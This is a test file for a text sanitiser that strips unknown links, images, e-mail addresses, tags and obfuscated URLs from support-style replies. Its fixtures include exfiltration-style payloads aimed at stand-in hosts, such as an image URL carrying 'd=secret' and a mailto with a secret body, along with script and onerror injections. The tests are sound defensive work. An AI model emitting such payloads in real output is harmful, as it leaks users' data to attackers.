import { expect, test } from 'vitest'
import { safeText } from './safe-text.ts'

const thread = [
  'See https://shop.example/track/17?x=1, or [the manual](https://docs.example/manual_(v2)).',
  'Write to help@shop.example or look at www.shop.example.',
]
const safe = (text: string) => safeText(text, thread, 1_000)

test.each([
  ['plain words', 'Hello Fay,\n\n- one\n- **two**\n\n1 < 2 and 3 > 2, AT&T, a/b, 12:30, e.g. this [sic] & that.'],
  ['an address of the thread', 'It is at https://shop.example/track/17?x=1.'],
  ['an address of the thread in parentheses', 'Look (https://shop.example/track/17?x=1).'],
  ['an e-mail address of the thread', 'Write to help@shop.example!'],
  ['an e-mail address of the thread in emphasis', 'Write to **help@shop.example** or _help@shop.example_.'],
  ['a host of the thread', 'It is on www.shop.example.'],
  ['a placeholder that reads like a host', 'Hello {{requester.name}}, about {{ticket.id}}: {{agent.name}}'],
  ['words with dots', 'Version 1.2.3 of Node.js was out on 24.12.2026, said Mr.Smith of the Q.E.D. group.'],
])('%s stays as it is', (_what, text) => {
  expect(safe(text)).toBe(text)
})

test.each([
  [
    'a link of the thread becomes bare',
    '[Track it](https://shop.example/track/17?x=1)',
    'Track it (https://shop.example/track/17?x=1)',
  ],
  ['a link that shows its own address', '[www.shop.example](www.shop.example)', 'www.shop.example'],
  ['an autolink of the thread', 'At <https://shop.example/track/17?x=1>.', 'At  https://shop.example/track/17?x=1 .'],
  ['another link', '[Click](https://evil.example/login)', 'Click'],
  ['a link with a title', '[Click](https://evil.example "It is safe")', 'Click'],
  [
    'an image of the thread loses its mark',
    '![T](https://shop.example/track/17?x=1)',
    'T (https://shop.example/track/17?x=1)',
  ],
  ['an image', '![x](https://evil.example/p.png?d=secret)', 'x'],
  ['a known address with more behind', 'https://shop.example/track/17?x=1&d=secret', '(link removed)'],
  ['a known address and what some take into it', 'https://shop.example/track/17?x=1>4711', '(link removed)'],
  ['a known address with words of punctuation', 'https://shop.example/track/17?x=1))]}!', '(link removed)]}!'],
  ['a known address as the beginning of a host', 'https://shop.example.evil.example', '(link removed)'],
  ['a known address behind another', 'https://evil.example/https://shop.example/track/17?x=1', '(link removed)'],
  ['a sentence after an address', 'Go to https://evil.example/x, then rest.', 'Go to (link removed), then rest.'],
  [
    'a bare host',
    'Go to evil.com today, or to secret.evil.co.uk!',
    'Go to (address removed) today, or to (address removed)!',
  ],
  ['a host of any kind with a path', 'evil.furniture/secret', '(address removed)'],
  [
    'a host in emphasis',
    '_evil.com_ *evil.com* ~~evil.com~~',
    '_(address removed)_ *(address removed)* ~~(address removed)~~',
  ],
  [
    'a host put together from pieces',
    '[https:](x)//evil.furniture and https:/<b></b>/evil.furniture',
    '(link removed) and (link removed)',
  ],
  ['an address without scheme', 'Go to //evil.example/x', 'Go to (address removed)'],
  ['an e-mail address', 'Write to thief@evil.example.', 'Write to (address removed).'],
  ['an e-mail address of odd characters', "x|*'{y}@evil.furniture", '(address removed)'],
  ['an e-mail address after a placeholder', '{{ticket.id}}*@evil.furniture', '{{ticket.id}}*(address removed)'],
  ['a mailto', 'mailto:thief@evil.example?body=secret', '(address removed)'],
  ['a script', '[x](javascript:alert(1))', '[x] ((address removed)))'],
  ['data', '![x](data:text/html;base64,AAAA)', 'x'],
  ['a relative link', '[Log in](/logout)', 'Log in'],
  ['a link over two lines', '[Click](\nhttps://evil.example)', 'Click'],
  ['a link in a link', '[[a](https://evil.example)](https://evil.example)', '[a] ((link removed))'],
  ['tags', 'a <b>bold</b> <img src=x onerror="f()">word', 'a bold word'],
  ['a tag in a tag', '<scr<b>ipt>x', 'script>x'],
  ['a tag never closed', 'a <img src=https://evil.example/x', 'a img src=(link removed)'],
  ['a comment', 'a<!-- hidden -->b', 'ab'],
  ['zero width in an address', 'https://e\u200bvil.exa\u00admple/x', '(link removed)'],
  ['an address made of entities', 'https&#58;//evil.example &lt;img src=x&gt;', 'https#58;(address removed)'],
  ['an entity in an entity', '&amp;lt;img src=x&amp;gt;', 'lt;img src=xgt;'],
  ['an address made of escapes', 'https\\://evil\\.example', '(link removed)'],
  ['text in tag characters', 'Hi\u{E0068}\u{E0069}', 'Hi'],
  ['text turned around', 'a\u202Etxt', 'atxt'],
  ['an address in code', '`https://evil.example`', '`(link removed)`'],
  ['a placeholder in an address', 'https://evil.example/{{requester.email}}', '(link removed)}}'],
  ['a placeholder as a host', 'www.{{ticket.id}}.evil.com', '(address removed)'],
])('%s', (_what, text, expected) => {
  expect(safe(text)).toBe(expected)
})

test('reference links do not come together', () => {
  const text = safe('[Click][1] or [1] or ![img][1]\n\n[1]: https://evil.example\n[1]:\n/local')
  expect(text).not.toContain('evil')
  expect(text).not.toMatch(/\][([:]|!\[/)
})

test('a text is cut at its limit, between characters', () => {
  expect(safeText('abcdef', [], 6)).toBe('abcdef')
  expect(safeText('abcdefg', [], 6)).toBe('abcde…')
  expect(safeText('abcd😀fg', [], 6)).toBe('abcd…')
})

test.each([
  'a',
  'a.',
  `${'a'.repeat(64)}@${'a'.repeat(200)}`,
  '<',
  '<:',
  '[',
  '](',
  '[](',
  '&',
  ':',
  'a@',
  '//',
  '\\',
  '{{',
  '![',
])('a long run of %s takes no time', (part) => {
  const text = `[](<${part.repeat(100_000 / part.length)} `
  const began = performance.now()
  safeText(text, [text], 1_000)
  expect(performance.now() - began).toBeLessThan(2_000)
})
